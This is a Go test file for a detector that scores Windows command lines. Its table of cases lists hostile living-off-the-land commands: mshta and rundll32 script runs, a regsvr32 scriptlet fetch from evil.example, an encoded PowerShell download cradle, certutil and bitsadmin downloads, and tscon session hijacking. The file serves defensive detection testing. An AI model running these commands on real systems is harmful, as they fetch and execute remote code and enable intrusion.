package winpath

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"github.com/hivescan/hivescan/report"
)

// psEncode encodes a script the way powershell -EncodedCommand expects.
func psEncode(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestLOLBins(t *testing.T) {
	env := Env{UserName: "alice"}
	tests := []struct {
		name string
		in   string
		sev  report.Severity
		want []string
	}{
		{"mshta inline vbscript", `mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")(window.close)`, report.Critical, []string{"lolbin.mshta"}},
		{"mshta javascript", `C:\Windows\System32\mshta.exe "javascript:a=new ActiveXObject('WScript.Shell');close()"`, report.Critical, []string{"lolbin.mshta"}},
		{"mshta url", `mshta.exe https://evil.example/a.hta`, report.High, []string{"lolbin.mshta"}},
		{"mshta local hta in appdata", `mshta.exe "%APPDATA%\x\run.hta"`, report.High, []string{"lolbin.mshta", "location.user-writable"}},
		{"rundll32 javascript", `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://x.example/a")`, report.Critical, []string{"lolbin.rundll32.script", "network.url"}},
		{"rundll32 RunHTMLApplication", `rundll32.exe mshtml.dll,RunHTMLApplication`, report.Critical, []string{"lolbin.rundll32.script"}},
		{"rundll32 odd extension in programdata", `rundll32.exe C:\ProgramData\upd\x.dat,DllRegisterServer`, report.High, []string{"lolbin.rundll32.extension", "location.user-writable"}},
		{"rundll32 dll in temp", `rundll32 %TEMP%\a.dll,Start`, report.High, []string{"location.temp"}},
		{"rundll32 share", `rundll32.exe \\10.1.1.1\s\a.dll,Go`, report.High, []string{"location.unc", "lolbin.rundll32.remote"}},
		{"squiblydoo", `regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll`, report.Critical, []string{"lolbin.regsvr32.remote"}},
		{"regsvr32 local scriptlet", `regsvr32.exe /s /i:C:\x\a.sct scrobj.dll`, report.High, []string{"lolbin.regsvr32.scriptlet"}},
		{"regsvr32 user dll", `regsvr32 /s C:\Users\alice\AppData\Roaming\x.dll`, report.Medium, []string{"location.user-writable"}},
		{"powershell encoded cradle", `powershell.exe -nop -w hidden -enc ` + psEncode(`IEX (New-Object Net.WebClient).DownloadString('http://1.2.3.4/a')`), report.Critical,
			[]string{"powershell.download", "encoded.powershell", "powershell.hidden", "powershell.noprofile"}},
		{"powershell -EncodedCommand", `powershell -EncodedCommand ` + psEncode(`Start-Sleep 1`), report.High, []string{"encoded.powershell"}},
		{"powershell /e bad base64", `powershell /e !!!notbase64`, report.High, []string{"encoded.powershell"}},
		{"powershell WindowStyle Hidden", `powershell -WindowStyle Hidden -File C:\scripts\a.ps1`, report.High, []string{"powershell.hidden"}},
		{"powershell bypass", `powershell -ep bypass -file C:\scripts\a.ps1`, report.High, []string{"powershell.bypass"}},
		{"powershell iwr", `powershell -c "iwr http://x.example/a -OutFile $env:TEMP\a.exe"`, report.High, []string{"powershell.download"}},
		{"powershell iex", `powershell -c "iex $env:x"`, report.High, []string{"powershell.iex"}},
		{"powershell script in appdata", `powershell -File "%APPDATA%\a.ps1"`, report.Medium, []string{"location.user-writable"}},
		{"cmd chain", `cmd /c start /b C:\Users\Public\x.exe & del C:\Users\Public\y`, report.High, []string{"cmd.chain", "location.user-writable"}},
		{"cmd pipe to powershell", `cmd.exe /c echo IEX(gc x) | powershell -nop -`, report.High, []string{"cmd.chain", "powershell.noprofile"}},
		{"cmd /k tscon", `cmd.exe /k tscon 2 /dest:console`, report.High, []string{"lolbin.tscon", "cmd.shell"}},
		{"tscon without a destination", `tscon 2`, report.Info, nil},
		{"cmd single", `%ComSpec% /c C:\tools\x.bat`, report.Low, []string{"cmd.shell"}},
		{"cmd runs masquerade", `cmd /c C:\Windows\smss.exe`, report.Critical, []string{"masquerade.location", "cmd.shell"}},
		{"certutil urlcache", `certutil.exe -urlcache -split -f http://x.example/a.txt C:\Users\Public\a.txt`, report.High, []string{"lolbin.certutil.download"}},
		{"certutil decode", `certutil -decode C:\ProgramData\a.txt C:\ProgramData\a.exe`, report.High, []string{"lolbin.certutil.decode"}},
		{"bitsadmin", `bitsadmin /transfer j /download /priority high http://x.example/a.exe C:\Users\Public\a.exe`, report.High, []string{"lolbin.bitsadmin"}},
		{"wscript user script", `wscript.exe //B "C:\Users\alice\AppData\Roaming\a.vbs"`, report.High, []string{"lolbin.script-host", "location.user-writable"}},
		{"cscript system script", `cscript //nologo %windir%\system32\slmgr.vbs /ato`, report.Low, []string{"lolbin.script-host"}},
		{"url with ip", `"C:\Program Files\App\app.exe" --update http://203.0.113.9/u`, report.High, []string{"network.url"}},
		{"url", `"C:\Program Files\App\app.exe" --home https://example.com/`, report.Medium, []string{"network.url"}},
		{"base64 blob", `"C:\Program Files\App\app.exe" ` + strings.Repeat("aGVsbG8gd29ybGQh", 8) + "Q1", report.Medium, []string{"encoded.blob"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := Assess(tt.in, env)
			if diff := cmp.Diff(tt.want, rules(a)); diff != "" {
				t.Errorf("Assess(%q) rules (-want +got):\n%s%s", tt.in, diff, a.Summary())
			}
			if a.Severity != tt.sev {
				t.Errorf("Assess(%q).Severity = %v, want %v", tt.in, a.Severity, tt.sev)
			}
		})
	}
}

func TestEncodedExcerpt(t *testing.T) {
	script := "Write-Host 'hi'\x1b[31m\n" + strings.Repeat("A", 500)
	a := Assess(`powershell -enc `+psEncode(script), Env{})
	var text string
	for _, r := range a.Reasons {
		if r.Rule == "encoded.powershell" {
			text = r.Text
		}
	}
	if !strings.Contains(text, "Write-Host 'hi'<U+001B>[31m AAAA") {
		t.Errorf("excerpt not found or unsafe in %q", text)
	}
	if len(text) > 400 || strings.ContainsAny(text, "\x1b\n") {
		t.Errorf("excerpt not truncated or not safe: %d bytes: %q", len(text), text)
	}
}
